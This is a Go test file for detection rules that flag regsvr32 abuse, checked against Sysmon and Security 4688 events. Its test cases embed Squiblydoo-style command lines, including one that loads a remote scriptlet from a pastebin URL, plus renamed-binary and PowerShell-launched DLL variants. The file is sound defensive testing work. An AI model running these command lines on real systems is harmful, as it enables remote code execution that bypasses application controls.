package rules

import (
	"strings"
	"testing"
)

// TestRegsvr32Variants: the pack's rules for regsvr32 abuse that literal
// strings miss, each with true positives and near misses (Sysmon 1 and,
// where the fields exist, Security 4688).
func TestRegsvr32Variants(t *testing.T) {
	const (
		localSct   = "b35b64dd-fc5e-4e0a-b6fd-9b320bb4411b"
		powershell = "5620af46-b689-4f09-8926-be37ab5e2e42"
		renamedKid = "00eb5cf4-f58c-4d55-9463-758f6a5085e0"
		sys32      = `C:\Windows\System32\regsvr32.exe`
		wow64      = `C:\Windows\SysWOW64\regsvr32.exe`
		ps         = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		pwsh       = `C:\Program Files\PowerShell\7\pwsh.exe`
	)
	sec := func(kv ...string) Event { return newEvent("Security", 4688, kv...) }
	tests := []struct {
		rule string
		name string
		ev   Event
		want bool
	}{
		{localSct, "Atomic T1117 local scriptlet", sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /s /u /i:C:\AtomicRedTeam\atomics\T1117\RegSvr32.sct scrobj.dll`), true},
		{localSct, "quoted path, dash flag", sysmon(1, "Image", sys32, "CommandLine", `regsvr32 -s -i:"C:\Users\bob\AppData\Local\Temp\a b.sct" scrobj.dll`), true},
		{localSct, "scriptlet without the .sct extension, with scrobj", sysmon(1, "Image", sys32, "CommandLine", `regsvr32 /s /n /u /i:C:\Users\Public\x.txt scrobj.dll`), true},
		{localSct, "renamed regsvr32 by OriginalFileName", sysmon(1, "Image", `C:\ProgramData\j.exe`, "OriginalFileName", "REGSVR32.EXE", "CommandLine", `j.exe /s /i:C:\x\p.sct scrobj.dll`), true},
		{localSct, "Security 4688", sec("NewProcessName", sys32, "CommandLine", `regsvr32 /s /u /i:C:\x\p.sct scrobj.dll`), true},
		{localSct, "a URL is the remote rule's", sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /s /u /i:http://pastebin.com/raw/x scrobj.dll`), false},
		{localSct, "a UNC share is the remote rule's", sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /s /u /i:\\10.0.0.5\share\x.sct scrobj.dll`), false},
		{localSct, "DllInstall with an argument", sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /s /i:U "C:\Program Files\Vendor\component.dll"`), false},
		{localSct, "a .sct path without /i:", sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /s C:\x\p.sct.dll`), false},
		{localSct, "not regsvr32", sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "CommandLine", `cmd /c echo /i:C:\x\p.sct scrobj.dll`), false},

		{powershell, "Atomic T1218.010 from PowerShell, full SysWOW64 path", sysmon(1, "Image", wow64, "ParentImage", ps,
			"CommandLine", `"C:\Windows\syswow64\regsvr32.exe" /s C:\AtomicRedTeam\atomics\T1218.010\bin\AllTheThingsx86.dll`), true},
		{powershell, "pwsh, quoted user path", sysmon(1, "Image", sys32, "ParentImage", pwsh,
			"CommandLine", `regsvr32.exe /s "C:\Users\bob\Downloads\a b.dll"`), true},
		{powershell, "relative path", sysmon(1, "Image", sys32, "ParentImage", ps, "CommandLine", `regsvr32 /s .\payload.dll`), true},
		{powershell, "Security 4688 version 2", sec("NewProcessName", sys32, "ParentProcessName", ps,
			"CommandLine", `regsvr32 /s D:\stage\x.dll`), true},
		{powershell, "a DLL in Program Files (x86)", sysmon(1, "Image", wow64, "ParentImage", ps,
			"CommandLine", `"C:\Windows\syswow64\regsvr32.exe" /s "C:\Program Files (x86)\Vendor\x86.dll"`), false},
		{powershell, "a DLL in System32", sysmon(1, "Image", sys32, "ParentImage", ps, "CommandLine", `regsvr32 /s C:\Windows\System32\vbscript.dll`), false},
		{powershell, "a DLL without a path", sysmon(1, "Image", sys32, "ParentImage", ps, "CommandLine", `regsvr32 /s shell32.dll`), false},
		{powershell, "started by cmd", sysmon(1, "Image", wow64, "ParentImage", `C:\Windows\System32\cmd.exe`,
			"CommandLine", `"C:\Windows\syswow64\regsvr32.exe" /s C:\AtomicRedTeam\atomics\T1218.010\bin\AllTheThingsx86.dll`), false},
		{powershell, "Security 4688 version 1 (no parent name)", sec("NewProcessName", sys32, "CommandLine", `regsvr32 /s D:\stage\x.dll`), false},

		{renamedKid, "cmd under a renamed regsvr32", sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", `C:\ProgramData\jabber.exe`, "ParentRegsvr32", "renamed"), true},
		{renamedKid, "Security 4688 under a renamed regsvr32", sec("NewProcessName", `C:\Windows\System32\cmd.exe`, "ParentRegsvr32", "renamed"), true},
		{renamedKid, "under regsvr32 by its own name", sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", sys32, "ParentRegsvr32", "named"), false},
		{renamedKid, "the tree does not know the parent as regsvr32", sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", `C:\ProgramData\jabber.exe`), false},
		{renamedKid, "the 32-bit handoff", sysmon(1, "Image", wow64, "ParentImage", `C:\ProgramData\jabber.exe`, "ParentRegsvr32", "renamed"), false},
	}
	s := Load(LoadOptions{})
	ids := map[string]*Rule{}
	for _, r := range s.Rules() {
		ids[r.ID] = r
	}
	for _, tc := range tests {
		r := ids[tc.rule]
		if r == nil {
			t.Fatalf("rule %s not in the pack", tc.rule)
		}
		if ok, det := r.Eval(tc.ev, nil); ok != tc.want {
			t.Errorf("%s: %s: %v (%+v), want %v", r.Title, tc.name, ok, det, tc.want)
		}
	}
}

// TestRuleFieldsAndCandidate: what a rule reads, and one rule evaluated as
// Candidates would.
func TestRuleFieldsAndCandidate(t *testing.T) {
	s, r := oneRule(t, procRule(`    selection:
        Image|endswith: '\regsvr32.exe'
        ParentImage|fieldref|endswith: 'ParentUser'
    keywords:
        - 'anything'
    filter_main:
        CommandLine|contains: 'Program Files'
    condition: selection and not filter_main or keywords
`))
	if got := strings.Join(r.Fields(), ","); got != "CommandLine,Image,ParentImage,ParentUser" {
		t.Errorf("Fields = %s", got)
	}
	tests := []struct {
		name       string
		ev         Event
		ok         bool
		suppressed string
	}{
		{"as written", sysmon(1, "Image", `C:\x\regsvr32.exe`, "ParentImage", `C:\a\b`, "ParentUser", `b`, "CommandLine", "x"), true, ""},
		{"suppressed by its filter", sysmon(1, "Image", `C:\x\regsvr32.exe`, "ParentImage", `C:\a\b`, "ParentUser", `b`, "CommandLine", `C:\Program Files\y`), true, "filter_main"},
		{"no match", sysmon(1, "Image", `C:\x\cmd.exe`), false, ""},
		{"outside the logsource", sysmon(3, "Image", `C:\x\regsvr32.exe`, "ParentImage", `C:\a\b`, "ParentUser", `b`), false, ""},
	}
	for _, tc := range tests {
		m, ok := r.Candidate(tc.ev)
		cand := s.Candidates(tc.ev, nil)
		if ok != tc.ok || strings.Join(m.Suppressed, ",") != tc.suppressed || (ok && m.Rule != r) || len(cand) != map[bool]int{true: 1, false: 0}[ok] {
			t.Errorf("%s: Candidate = %+v, %v; Candidates %+v", tc.name, m, ok, cand)
		}
	}
}
